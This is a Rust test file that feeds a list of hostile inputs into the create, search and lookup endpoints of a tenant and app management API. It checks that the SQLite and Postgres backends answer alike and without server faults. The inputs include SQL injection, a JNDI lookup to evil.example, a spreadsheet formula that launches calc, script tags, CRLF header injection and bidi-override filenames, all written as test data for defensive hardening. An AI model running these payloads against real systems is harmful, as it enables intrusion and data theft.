//! Texts that are meant to do something, in every string, filter and order, with the same answer from both databases
//! (attack 74; the texts of attacks 66 and 76 among them).

use serde_json::{Value, json};

use crate::attacks::estate::Estate;
use crate::world::World;
use crate::world::answer::Answer;
use crate::world::databases::{Database, on_both_databases};
use crate::world::description::document;
use crate::world::people::text;
use crate::world::requests::{bearer, request};

on_both_databases!(
    attack_74_names_come_back_as_they_are_or_are_refused,
    attack_74_what_is_searched_for_is_no_pattern,
    attack_74_hostile_ids_lead_nowhere,
);

const TEXTS: [&str; 21] = [
    "'; DROP TABLE apps; --",
    "\" OR \"\"=\"",
    "1) UNION SELECT secret FROM secrets --",
    "%",
    "_",
    "100%_\\",
    "a\u{0}b",
    "\u{202e}txt.exe",
    "\u{61c}\u{200f}abc",
    "\u{5d0}\u{5d1}\u{5d2}",
    "a\r\nSet-Cookie: x=1",
    "a\u{1b}[2Jb",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u{feff}",
    "\u{1f469}\u{200d}\u{1f680}",
    "I\u{130}\u{131}i\u{df}SS",
    "e\u{301}\u{e9}",
    "  ",
];

/// A creation of every kind, and its texts.
fn creations(estate: &Estate) -> Vec<(String, Value, Vec<&'static str>)> {
    let app = json!({"tenant_id": estate.id("tenants"), "name": "x", "region": "eu-west"});
    let path = |template: &str| estate.path(template);
    vec![
        (path("/tenants"), json!({"name": "x"}), vec!["name"]),
        (
            path("/apps"),
            app,
            vec![
                "name",
                "region",
                "client_id",
                "client_type",
                "plan_id",
                "tenant_id",
                "scopes",
                "reference_tokens",
                "allowed_domains",
                "login_redirect_uris",
                "logout_redirect_uris",
                "service_access",
            ],
        ),
        (
            path("/users"),
            json!({"kind": "internal", "name": "x", "display_name": "x"}),
            vec!["kind", "name", "display_name"],
        ),
        (path("/plans"), json!({"code": "x", "name": "x"}), vec!["code", "name", "limits"]),
        (path("/regions"), json!({"code": "x", "name": "x"}), vec!["code", "name"]),
        (path("/regions/{id}/databases"), json!({"db_code": "x", "capacity": 1}), vec!["db_code"]),
        (path("/resources"), json!({"audience": "x", "name": "x"}), vec!["audience", "name", "signing_alg"]),
        (path("/resources/{id}/scopes"), json!({"name": "x"}), vec!["name", "description", "grant"]),
        (path("/instances"), json!({"slug": "x", "name": "x"}), vec!["slug", "name"]),
        (
            path("/tenants/{id}/invitations"),
            json!({"user_name": "x", "role": "auditor"}),
            vec!["user_name", "role"],
        ),
        (path("/invitations/accept"), json!({"token": "x"}), vec!["token"]),
    ]
}

/// How a server answered, without what is different in every answer.
fn essence(answer: &Answer) -> (u16, Value) {
    let mut body: Value = serde_json::from_slice(&answer.body).unwrap_or_default();
    if let Some(members) = body.as_object_mut() {
        members.remove("instance");
        members.remove("client_secret");
        members.remove("token");
        members.remove("next");
    }
    (answer.status, body)
}

/// Everything that a server says to the texts.
async fn answers_of(database: Database) -> Vec<(String, (u16, Value))> {
    let world = World::on(database).await;
    let estate = Estate::of_tenant(&world, "Acme").await;
    let token = world.token(&world.operator).await;
    let long = "x".repeat(100_000);
    let texts: Vec<&str> = TEXTS.into_iter().chain([long.as_str()]).collect();
    let mut answers = Vec::new();
    for (path, body, fields) in creations(&estate) {
        for field in fields {
            for hostile in &texts {
                let mut body = body.clone();
                body[field] = match field {
                    "allowed_domains" | "login_redirect_uris" | "logout_redirect_uris" => json!([hostile]),
                    "service_access" => json!({"as": "user", "user_id": hostile}),
                    "limits" => json!({"features": {*hostile: hostile}}),
                    _ => json!(hostile),
                };
                let answer = world.call(&token, "POST", &path, Some(body)).await;
                let step = format!("POST {path} {field} {hostile:.30}");
                assert!(answer.status < 500, "{step}: {}", answer.text());
                assert_eq!(answer.header("set-cookie"), None, "{step}");
                assert!(answer.body.len() < 20_000, "{step}: what was sent is not echoed");
                answers.push((step, essence(&answer)));
            }
        }
    }
    answers.extend(answers_to_queries(&world, &estate, &token).await);
    answers
}

/// What the lists say to the texts as filters and orders, and at last what is in them.
async fn answers_to_queries(world: &World, estate: &Estate, token: &str) -> Vec<(String, (u16, Value))> {
    let mut answers = Vec::new();
    for (template, item) in document()["paths"].as_object().unwrap() {
        let parameters = item["get"]["parameters"].as_array().cloned().unwrap_or_default();
        let parameters: Vec<Value> = parameters.iter().map(described).collect();
        for parameter in parameters.iter().filter(|parameter| parameter["in"] == "query") {
            let name = text(&parameter["name"]);
            for hostile in TEXTS.into_iter().chain(["%ff", "%", "null", "-1", "1e9"]) {
                let path = format!("{}?{name}={}", estate.path(template), escaped(hostile));
                let answer = world.call(token, "GET", &path, None).await;
                assert!(answer.status < 500, "{path}: {}", answer.text());
                // The events have times and ids of both servers' own.
                if !template.starts_with("/audit") {
                    answers.push((path, essence(&answer)));
                }
            }
        }
        if item.get("get").is_some() && !template.starts_with("/audit") {
            for sort in ["name", "-name", "created_at", "-created_at"] {
                let path = format!("{}?limit=100&sort={sort}", estate.path(template));
                answers.push((path.clone(), essence(&world.call(token, "GET", &path, None).await)));
            }
        }
    }
    answers
}

/// A parameter, whether it is described on the spot or elsewhere.
fn described(parameter: &Value) -> Value {
    match parameter["$ref"].as_str() {
        Some(reference) => document().pointer(reference.strip_prefix('#').unwrap()).unwrap().clone(),
        None => parameter.clone(),
    }
}

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

#[actix_web::test]
async fn attack_74_both_databases_answer_hostile_texts_alike_and_without_a_fault() {
    let (sqlite, postgres) = (answers_of(Database::Sqlite).await, answers_of(Database::Postgres).await);
    assert!(1_500 < sqlite.len(), "{}", sqlite.len());
    assert_eq!(sqlite.len(), postgres.len());
    for (one, other) in sqlite.iter().zip(&postgres) {
        assert_eq!(one, other);
    }
}

async fn attack_74_names_come_back_as_they_are_or_are_refused(world: World) {
    for (name, status) in [
        ("'; DROP TABLE apps; --", 201),
        ("100%_", 201),
        ("<script>alert(1)</script>", 201),
        ("=cmd|' /C calc'!A0", 201),
        ("${jndi:ldap://x}", 201),
        ("\u{5d0}\u{5d1}\u{5d2}", 201),
        ("a\u{0}b", 422),
        ("a\r\nSet-Cookie: x", 201),
        ("a\u{1b}[2Jb", 422),
        ("a\u{202e}b", 422),
        ("a\u{2066}b", 422),
        ("", 422),
        (&"x".repeat(100_000), 422),
    ] {
        let answer = world.operate("POST", "/api/v1/tenants", Some(json!({"name": name}))).await;
        assert_eq!(answer.status, status, "{name:.30}: {}", answer.text());
        if status == 201 {
            let expected = name.split_whitespace().collect::<Vec<_>>().join(" ");
            assert_eq!(answer.json()["name"], expected);
            let path = format!("/api/v1/tenants/{}", text(&answer.json()["id"]));
            assert_eq!(world.operated("GET", &path, None).await["name"], expected);
            assert_eq!(answer.header("set-cookie"), None);
        } else {
            assert_eq!(answer.blamed_fields(), ["name"]);
        }
    }
}

async fn attack_74_what_is_searched_for_is_no_pattern(world: World) {
    for name in ["Plain", "100%", "a_b", "axb", "back\\slash", "\u{c4}rger", "[a-z]", "quo'te"] {
        world.create("/api/v1/tenants", json!({"name": name})).await;
    }
    for (search, expected) in [
        ("%", vec!["100%"]),
        ("_", vec!["a_b"]),
        ("a_b", vec!["a_b"]),
        ("\\", vec!["back\\slash"]),
        ("[a-z]", vec!["[a-z]"]),
        ("'", vec!["quo'te"]),
        ("%%", vec![]),
        ("p%n", vec![]),
        ("*", vec![]),
        ("?", vec![]),
        ("PLAIN", vec!["Plain"]),
        ("\u{e4}RG", vec!["\u{c4}rger"]),
        ("a\u{308}rg", vec!["\u{c4}rger"]),
    ] {
        let path = format!("/api/v1/tenants?sort=name&search={}", escaped(search));
        let list = world.operated("GET", &path, None).await;
        let names: Vec<String> =
            list["items"].as_array().unwrap().iter().map(|item| text(&item["name"])).collect();
        assert_eq!(names, expected, "{search}");
    }
}

async fn attack_74_hostile_ids_lead_nowhere(world: World) {
    let token = world.token(&world.operator).await;
    for id in [
        "%27%20OR%201=1",
        "..",
        "%2e%2e",
        "%00",
        "app_%25",
        "app_0000000000000000000000000u",
        "*",
        "%ff",
        "%e2%80%ae",
    ] {
        for kind in ["apps", "tenants", "users", "plans", "regions", "resources", "audit-events", "instances"]
        {
            let path = format!("/api/v1/{kind}/{id}");
            let answer = world.call(&token, "GET", &path, None).await;
            assert_eq!(answer.problem(), (404, "not_found".to_owned()), "{path}");
        }
    }
    // A key is a text too.
    for key in ["';DROP-TABLE-x;--", "%_"] {
        let creation = || {
            request("POST", "/api/v1/tenants")
                .insert_header(bearer(&token))
                .insert_header(("Idempotency-Key", key))
                .insert_header(("Content-Type", "application/json"))
                .set_payload(json!({"name": key}).to_string())
        };
        assert_eq!(world.send(creation()).await.status, 201);
        assert_eq!(world.send(creation()).await.header("idempotency-replayed"), Some("true"));
    }
}
